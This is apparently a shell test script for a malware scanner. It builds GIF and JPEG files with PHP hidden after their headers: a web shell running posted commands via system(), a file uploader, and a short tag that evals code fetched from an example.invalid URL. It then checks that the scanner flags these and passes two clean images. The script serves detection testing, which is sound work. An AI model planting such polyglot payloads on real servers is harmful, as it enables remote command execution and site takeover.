#!/bin/sh
# PHP hidden in an image (a GIF's or a JPEG's header before a web shell, so that an upload
# check of the type passes it): the code from its "<?php" to the image's next NUL byte is
# scanned as a child, and an image whose PHP reads the request is flagged itself. An image
# with no PHP, or with PHP that reads nothing, stays clean.
. "$AIRLOCK_SRC/tests/lib.sh"

t=$TEST_TMPDIR
# GIF89a, a logical screen, a colour table's bytes with NULs, then the code, then more data
printf 'GIF89a\001\000\001\000\200\000\000\377\377\377\000\000\000!\371\004' >"$t/shell.gif"
printf '<?php\nif (isset($_POST["c"])) { $c = $_POST["c"]; echo "<pre>"; system($c); }\n?>' >>"$t/shell.gif"
printf '\000,\000\000\000\000\001\000\001\000\000\002\002D\001\000;' >>"$t/shell.gif"
# a JPEG's comment segment holding an uploader
printf '\377\330\377\340\000\020JFIF\000\001\001\000\000\001\000\001\000\000\377\376' >"$t/up.jpg"
printf '<?php if ($_FILES) { move_uploaded_file($_FILES["f"]["tmp_name"], $_FILES["f"]["name"]); } ?>' >>"$t/up.jpg"
printf '\000\377\333\000C\000\010\006\006\007\006\005\010\007\007\007\377\331' >>"$t/up.jpg"
# a JPEG's comment with the short tag <?= running what a URL serves
printf '\377\330\377\340\000\020JFIF\000\001\001\000\000\001\000\001\000\000\377\376' >"$t/short.jpg"
printf '<?=eval("?>".file_get_contents("https://example.invalid/x.txt"));?>' >>"$t/short.jpg"
printf '\000\377\331' >>"$t/short.jpg"
# the same GIF without code, and with PHP that only prints
printf 'GIF89a\001\000\001\000\200\000\000\377\377\377\000\000\000,\000\000\000\000\001\000\001\000\000\002\002D\001\000;' >"$t/plain.gif"
printf 'GIF89a\001\000\001\000\200\000\000\377\377\377\000\000\000!\376<?php echo "a picture of PHP"; ?>\000;' >"$t/echo.gif"

"$AIRLOCK" analyze "$t/shell.gif" "$t/up.jpg" "$t/short.jpg" "$t/plain.gif" "$t/echo.gif" >"$t/out" 2>"$t/err"
expect_eq "exit-1" 1 $?
expect_grep "gif-shell-malicious" "^malicious .*shell.gif " cat "$t/out"
expect_grep "gif-shell-child-php" "shell.gif!php@" cat "$t/out"
expect_grep "gif-shell-runs-command" "webshape_request_to_command" cat "$t/out"
expect_grep "jpeg-uploader-malicious" "^malicious .*up.jpg " cat "$t/out"
expect_grep "jpeg-short-tag-malicious" "^malicious .*short.jpg " cat "$t/out"
expect_grep "image-finding" "heuristic.php_in_image" cat "$t/out"
expect_grep "plain-gif-clean" "^clean .*plain.gif " cat "$t/out"
expect_grep "echo-gif-clean" "^clean .*echo.gif " cat "$t/out"
exit 0
